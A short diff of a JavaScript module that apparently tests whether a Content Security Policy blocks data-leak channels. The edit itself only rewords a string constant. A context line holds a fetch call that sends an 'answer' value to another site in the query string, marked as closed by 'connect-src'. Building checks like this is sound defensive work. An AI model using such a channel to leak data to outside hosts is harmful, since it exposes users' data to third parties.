@@ -7,7 +7,7 @@
 import { fileURLToPath } from "node:url";
 
 const HOST = "host: `frame-src` with the exact address";
-const SERVER = "server: answers no query, logs none";
+const SERVER = "server: reads no query, logs none";
 
 export const channels = [
   { name: "`fetch` to another site", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => fetch(`${elsewhere}?${answer}`, { mode: "no-cors" }) },
